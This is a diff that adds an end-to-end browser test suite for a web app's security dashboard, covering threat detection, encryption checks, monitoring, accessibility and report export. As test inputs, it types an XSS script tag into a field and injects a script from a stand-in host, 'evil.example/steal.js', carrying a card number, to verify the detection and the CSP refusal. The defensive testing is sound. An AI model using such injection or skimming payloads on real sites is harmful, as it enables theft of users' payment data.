@@ -1,0 +1,121 @@
+import { readFileSync } from 'node:fs'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
+import { SecurityReport } from '#app/features/security/schema.ts'
+import { launchChromium } from '#test/support/chromium.ts'
+import { shareInstance } from '#test/support/instance.ts'
+import { shiftsOf, watchShifts } from './layout-shifts.ts'
+import { axeProblems, closeContext, eventually, openContext, overflowPx, toasts } from './visitor.ts'
+
+let browser: Browser
+beforeAll(async () => {
+  browser = await launchChromium()
+})
+afterAll(() => browser?.close())
+const shared = shareInstance({ RATE_LIMIT_SCALE: '1000' })
+
+const panel = '[data-island*="/security-panel."]'
+const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })
+const check = (page: Page, id: string) => page.locator(`[data-check=${id}]`)
+const reportIn = async (page: Page) =>
+  SecurityReport.parse(JSON.parse(await page.getByRole('textbox', { name: 'Security report' }).inputValue()))
+
+/** The dashboard, once its buttons work in place. */
+async function started(page: Page) {
+  await page.goto('/security-dashboard')
+  await page.locator(`${panel}[data-started]`).waitFor()
+  await eventually(() => button(page, 'Copy').isVisible()).toBe(true)
+}
+
+describe('The security dashboard', () => {
+  it.each([360, 1280])('tests, watches and reports in place at %i px, by keyboard, without a shift and for everybody', async (width) => {
+    const { url } = await shared()
+    const context = await openContext(browser, url, { viewport: { width, height: 800 } })
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+    const page = await context.newPage()
+    await watchShifts(page)
+    await started(page)
+    expect(await shiftsOf(page)).toEqual([])
+    expect(await axeProblems(page)).toEqual([])
+    expect(await overflowPx(page)).toBe(0)
+    expect((await reportIn(page)).page).toEqual({ monitoring: 'inactive', encryption: 'not tested', events: [] })
+
+    await button(page, 'Test Threat Detection').press('Enter')
+    await eventually(() => toasts(page).first().textContent()).toContain('Detected 5/5 potential threats.')
+    await button(page, 'Test Encryption').press('Enter')
+    await eventually(() => toasts(page).first().textContent()).toContain('Encryption Test Successful')
+    // What was kept for it is gone.
+    expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([])
+
+    await button(page, 'Start Monitoring').press('Enter')
+    const active = button(page, 'Monitoring Active')
+    await active.waitFor()
+    expect(await active.isDisabled()).toBe(true)
+    expect(await check(page, 'monitoring').textContent()).toContain('Active, nothing found')
+    await page.getByLabel('A field to try it with').fill('My boiler is off <script>alert(1)</script>')
+    const found = page.locator('[data-kind=input]')
+    await eventually(() => found.allTextContents()).toHaveLength(1)
+    expect(await found.textContent()).toContain('Typed into ‘A field to try it with’: script tag.')
+    expect(await check(page, 'monitoring').textContent()).toContain('Active, 1 found')
+    expect(await axeProblems(page)).toEqual([])
+    expect(await overflowPx(page)).toBe(0)
+
+    const report = await reportIn(page)
+    expect(report.page).toMatchObject({ monitoring: 'active', encryption: 'passed', events: [{ kind: 'input' }] })
+    // Never a word of what was typed.
+    expect(JSON.stringify(report)).not.toContain('My boiler')
+    await button(page, 'Copy').click()
+    await eventually(() => toasts(page).first().textContent()).toContain('Report copied.')
+    expect(SecurityReport.parse(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())))).toEqual(report)
+    const download = page.waitForEvent('download')
+    await page.getByRole('link', { name: 'Download' }).click()
+    expect(SecurityReport.parse(JSON.parse(readFileSync(await (await download).path(), 'utf8'))).checks).toHaveLength(5)
+
+    await button(page, 'Refresh Status').press('Enter')
+    await page.getByText(/^Read again at /).waitFor()
+    // It was watched before, and it still is.
+    expect(await active.isDisabled()).toBe(true)
+  })
+
+  it('shows what the browser refuses, and a script from elsewhere that is put in', async () => {
+    const { url } = await shared()
+    // The refusal itself is an error on the console, which is what is wanted here.
+    const context = await browser.newContext({ baseURL: url, reducedMotion: 'reduce' })
+    onTestFinished(() => closeContext(context))
+    const page = await context.newPage()
+    await started(page)
+    await button(page, 'Start Monitoring').click()
+    await button(page, 'Monitoring Active').waitFor()
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/steal.js?card=4242'
+      document.body.append(script)
+    })
+    await eventually(() => page.locator('[data-kind=script]').allTextContents()).toHaveLength(1)
+    expect(await page.locator('[data-kind=script]').textContent()).toContain('A script was put into the page: https://evil.example.')
+    await eventually(() => page.locator('[data-kind=policy]').textContent()).toContain('refused https://evil.example under script-src-elem')
+    expect(JSON.stringify(await reportIn(page))).not.toContain('4242')
+  })
+
+  it('says that encryption failed where the browser keeps nothing', async () => {
+    const { url } = await shared()
+    const context = await openContext(browser, url)
+    await context.addInitScript(() => Object.defineProperty(window, 'indexedDB', { value: undefined }))
+    const page = await context.newPage()
+    await started(page)
+    await button(page, 'Test Encryption').click()
+    await eventually(() => toasts(page).first().textContent()).toContain('Encryption Test Failed')
+    expect(await toasts(page).first().textContent()).toContain('Failed to encrypt/decrypt test data.')
+    expect((await reportIn(page)).page?.encryption).toBe('failed')
+  })
+
+  it('goes on where its buttons were pressed before any script ran', async () => {
+    const { url } = await shared()
+    const page = await (await openContext(browser, url)).newPage()
+    await page.route('**/islands/**', (route) => (page.url().includes('#result') ? route.continue() : route.abort()))
+    await page.goto('/security-dashboard')
+    await button(page, 'Start Monitoring').click()
+    await page.waitForURL('**/security-dashboard#result')
+    await button(page, 'Monitoring Active').waitFor()
+  })
+})
